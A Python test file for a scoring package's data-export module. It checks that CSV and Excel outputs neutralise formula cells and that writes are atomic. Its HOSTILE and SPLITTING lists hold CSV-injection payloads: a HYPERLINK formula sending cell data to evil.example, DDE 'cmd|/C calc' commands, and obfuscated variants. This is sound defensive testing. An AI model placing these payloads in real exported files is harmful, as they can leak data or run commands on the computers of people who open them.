"""Exports: formula cells neutralised, nothing dropped, files written atomically."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from scoring.io.export import (
    FORMATS,
    atomic_write,
    export_bytes,
    neutralise_cell,
    neutralise_csv_text,
    to_arrow_table,
    to_csv_bytes,
    to_excel_bytes,
    to_jsonl_bytes,
    to_parquet_bytes,
    write_export,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    # a formula character after spaces or invisible characters, or in its full-width form (issue 10)
    " =1+1",
    '\u00a0=HYPERLINK("http://evil.example")',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200b\u00a0 \u200e@SUM(A1:A2)",
    "\uff1dcmd|' /C calc'!A0",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
SAFE = ["hello", "", "'already quoted", "a=b", "1+1", "\u00a0plain", "x;y", "a, b"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_cell_prefixes_formula_starts(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*SAFE, None, 3, -3, 2.5, True])
def test_neutralise_cell_leaves_other_values(value: object) -> None:
    assert neutralise_cell(value) == value


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"text": HOSTILE + SAFE, "score": [i / 20 for i in range(len(HOSTILE + SAFE))]})


def _csv_cells(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), keep_default_na=False, dtype=str)


def test_neutralise_cell_prefixes_a_leading_nul() -> None:
    assert neutralise_cell("\x00=1") == "'\x00=1"


def test_csv_neutralises_by_default_and_can_opt_out() -> None:
    df = _frame()
    safe = _csv_cells(to_csv_bytes(df))
    assert list(safe["text"]) == [neutralise_csv_text(v) for v in df["text"]]
    raw = _csv_cells(to_csv_bytes(df, neutralise=False))
    assert list(raw["text"]) == list(df["text"])
    assert [float(v) for v in safe["score"]] == list(df["score"])  # numbers are never touched


def test_csv_neutralises_column_names() -> None:
    data = to_csv_bytes(pd.DataFrame({"=cmd()": ["x"]}))
    assert data.splitlines()[0] == b'"\'=cmd()"'


#: Cells that split into a formula cell in a reader using ";" (German, French, Dutch spreadsheets) or ",".
SPLITTING = ["x;=cmd|' /C calc'!A0", 'a;"=1+1"', "q; @SUM(A1)", "a;\u00a0\uff1dcmd", "a,=1+1", "x;y,=1;-2",
             "steps:\n- 2+3+cmd|' /C calc'!A0", "a\r\n=1\r@2"]  # fmt: skip


def _runs_as_formula(field: str) -> bool:
    """A spreadsheet's view: a formula character first, or after spaces and invisible characters."""
    text = field.lstrip().lstrip("\u00a0\u200b\u200c\u200d\u200e\u200f\u2060\ufeff")
    return field.startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_never_yields_a_formula_cell_to_a_comma_or_semicolon_reader(delimiter: str) -> None:
    """Every payload in every column position, read as a spreadsheet would with either list separator."""
    payloads = HOSTILE + SPLITTING
    df = pd.DataFrame({"first": payloads, "middle": payloads[::-1], "last": payloads, "n": range(len(payloads))})
    text = to_csv_bytes(df).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    formulas = [f for row in rows for f in row if _runs_as_formula(f)]
    assert formulas == []
    raw = list(csv.reader(io.StringIO(to_csv_bytes(df, neutralise=False).decode(), newline=""), delimiter=delimiter))
    assert any(_runs_as_formula(f) for row in raw for f in row)  # the payloads do split into formulas unneutralised


def test_csv_quotes_every_text_cell_and_keeps_the_text() -> None:
    df = pd.DataFrame({"output": ["x;=cmd|' /C calc'!A0", "a, b", "plain"], "score": [0.5, 1.0, 0.0]})
    data = to_csv_bytes(df)
    assert data.splitlines() == [b'"output","score"', b"\"x;'=cmd|' /C calc'!A0\",0.5", b'"a, b",1.0', b'"plain",0.0']
    assert _csv_cells(data)["output"].tolist() == ["x;'=cmd|' /C calc'!A0", "a, b", "plain"]
    assert _csv_cells(to_csv_bytes(df, neutralise=False))["output"].tolist() == df["output"].tolist()


def _xlsx_rows(data: bytes) -> list[tuple[object, ...]]:
    return [tuple(c.value for c in row) for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def test_excel_neutralises_and_never_writes_formulas() -> None:
    df = _frame()
    for neutralise in (True, False):
        data = to_excel_bytes(df, neutralise=neutralise)
        sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet  # no formula element, whichever way neutralise is set
        texts = [row[0] for row in _xlsx_rows(data)[1:]]
        expected = [neutralise_cell(v) if neutralise else v for v in df["text"]]
        assert texts == [v.replace("\r", "\n") if v != "" else None for v in expected]  # Excel's line break


def test_excel_bytes_hold_no_clock_time() -> None:
    """openpyxl stamps the save time; the export drops it, so one table always gives the same bytes."""
    data = to_excel_bytes(_frame())
    book = zipfile.ZipFile(io.BytesIO(data))
    assert {info.date_time for info in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = book.read("docProps/core.xml")
    assert b"dcterms:created" not in core and b"dcterms:modified" not in core and b"<dc:creator>" in core
    assert book.testzip() is None and _xlsx_rows(data)[0] == tuple(_frame().columns)


def test_nested_values_become_json_text_in_spreadsheets() -> None:
    df = pd.DataFrame({"scores": [{"tone": 0.5}, [1, 2], None], "row": [1, 2, 3]})
    cells = _csv_cells(to_csv_bytes(df))["scores"].tolist()
    assert [json.loads(c) if c else None for c in cells] == [{"tone": 0.5}, [1, 2], None]
    assert [r[0] for r in _xlsx_rows(to_excel_bytes(df))[1:]] == ['{"tone": 0.5}', "[1, 2]", None]


def test_lone_surrogate_and_control_characters_are_kept_visibly() -> None:
    df = pd.DataFrame({"text": ["a\ud800b", "bell\x07"]}, dtype=object)
    assert _csv_cells(to_csv_bytes(df))["text"].tolist() == ["a\\ud800b", "bell\x07"]
    assert [r[0] for r in _xlsx_rows(to_excel_bytes(df))[1:]] == ["a\\ud800b", "bell\\x07"]
    back = [json.loads(line) for line in to_jsonl_bytes(df).decode("utf-8").splitlines()]
    assert [r["text"] for r in back] == ["a\ud800b", "bell\x07"]  # JSON Lines round-trips exactly
    assert pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))["text"].tolist() == ["a\\ud800b", "bell\x07"]


def test_excel_refuses_a_cell_it_cannot_hold_instead_of_cutting_it() -> None:
    df = pd.DataFrame({"text": ["ok", "x" * 40_000]})
    with pytest.raises(ValueError, match=r"row 2, column 'text' holds 40,000 characters"):
        to_excel_bytes(df)


def test_jsonl_rows_nan_and_numpy() -> None:
    df = pd.DataFrame({"text": ["a", None], "score": [0.5, float("nan")], "n": [1, 2]})
    rows = [json.loads(line) for line in to_jsonl_bytes(df).splitlines()]
    assert rows == [{"text": "a", "score": 0.5, "n": 1}, {"text": None, "score": None, "n": 2}]


def test_parquet_keeps_mixed_and_nested_columns_as_json_text() -> None:
    df = pd.DataFrame({"mixed": [1, "two", None], "nested": [{"a": 1}, [1], None], "score": [0.1, 0.2, 0.3]})
    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))
    assert back["mixed"].tolist()[:2] == ["1", "two"]
    assert json.loads(back["nested"][0]) == {"a": 1}
    assert back["score"].tolist() == [0.1, 0.2, 0.3]


def test_parquet_bytes_are_pandas_to_parquet_of_the_arrow_table() -> None:
    """The CLI's sink appends to_arrow_table chunks; a download writes to_parquet_bytes: the same cells and schema."""
    df = pd.DataFrame({"text": pd.Series(["a", None, "\ud800"], dtype=object), "score": [0.5, float("nan"), 1.0],
                       "nested": [[1], {"k": 2}, "s"]})  # fmt: skip
    df.attrs["warnings"] = ["lines 3 were Windows-1252"]
    table = to_arrow_table(df)
    frame = table.to_pandas()
    frame.attrs = df.attrs
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    assert to_parquet_bytes(df) == buffer.getvalue()
    assert table.schema.metadata[b"PANDAS_ATTRS"] == json.dumps(df.attrs).encode()
    assert table.column("text").to_pylist() == ["a", None, "\\ud800"]


def test_meaningful_index_is_exported_as_a_column() -> None:
    df = pd.DataFrame({"score": [0.1, 0.2]}, index=pd.Index(["r7", "r9"], name="row_id"))
    assert _csv_cells(to_csv_bytes(df))["row_id"].tolist() == ["r7", "r9"]


@pytest.mark.parametrize("fn", [to_jsonl_bytes, to_parquet_bytes])
def test_duplicate_columns_are_refused_where_they_would_collide(fn: object) -> None:
    df = pd.DataFrame([[1, 2]], columns=["score", "score"])
    with pytest.raises(ValueError, match=r"\['score'\] appear more than once"):
        fn(df)  # type: ignore[operator]
    assert _csv_cells(to_csv_bytes(df)).shape == (1, 2)  # CSV keeps both


def test_export_bytes_rejects_unknown_format_and_non_frames() -> None:
    with pytest.raises(ValueError, match="format must be one of"):
        export_bytes(_frame(), "xls")
    with pytest.raises(TypeError, match="df must be a pandas DataFrame; got list"):
        to_csv_bytes([1, 2])  # type: ignore[arg-type]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_export_never_leaves_a_formula_start_and_loses_nothing(texts: list[str]) -> None:
    df = pd.DataFrame({"text": texts}, dtype=object)
    raw = io.BytesIO(to_csv_bytes(df))
    cells = pd.read_csv(raw, keep_default_na=False, dtype=str, skip_blank_lines=False)["text"].tolist()
    assert len(cells) == len(texts)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_write_export_picks_the_format_from_the_extension(tmp_path: Path, fmt: str) -> None:
    target = write_export(_frame(), tmp_path / f"out{FORMATS[fmt][0]}")
    assert target.read_bytes() == export_bytes(_frame(), fmt)
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
    with pytest.raises(ValueError, match="cannot tell the export format"):
        write_export(_frame(), tmp_path / "out.txt")


def test_atomic_write_replaces_whole_and_keeps_mode(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    atomic_write(target, "first")
    os.chmod(target, 0o640)
    atomic_write(target, b"second")
    assert target.read_text() == "second"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    atomic_write(target, lambda handle: handle.write(b"third"))
    assert target.read_text() == "third"


@pytest.mark.parametrize("error", [RuntimeError("disk full"), KeyboardInterrupt()])
def test_atomic_write_interrupted_leaves_the_old_file_and_no_temp(tmp_path: Path, error: BaseException) -> None:
    target = tmp_path / "out.csv"
    target.write_text("complete old run")

    def writer(handle: io.BufferedWriter) -> None:
        handle.write(b"half of the new")
        raise error

    with pytest.raises(type(error)):
        atomic_write(target, writer)
    assert target.read_text() == "complete old run"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_atomic_write_bad_arguments(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="does not exist"):
        atomic_write(tmp_path / "missing" / "out.csv", b"x")
    with pytest.raises(TypeError, match="data_or_writer must be bytes, str or a function; got int"):
        atomic_write(tmp_path / "out.csv", 3)  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []
